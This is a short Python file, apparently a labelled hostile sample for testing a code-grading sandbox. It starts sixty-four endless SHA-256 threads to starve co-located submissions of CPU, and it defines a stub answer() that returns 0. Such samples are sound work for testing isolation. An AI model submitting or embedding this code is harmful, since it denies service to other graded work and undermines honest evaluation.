"""Sixty-four threads that compute without end, to take the cores from whoever is graded next to it."""
# says: out of time|expected
# danger: takes all cores
import hashlib
import threading

data = bytes(1 << 22)


def spin():
    while True:
        hashlib.sha256(data).digest()


for _ in range(64):
    threading.Thread(target=spin, daemon=True).start()


def answer(*args, **kwargs):
    return 0
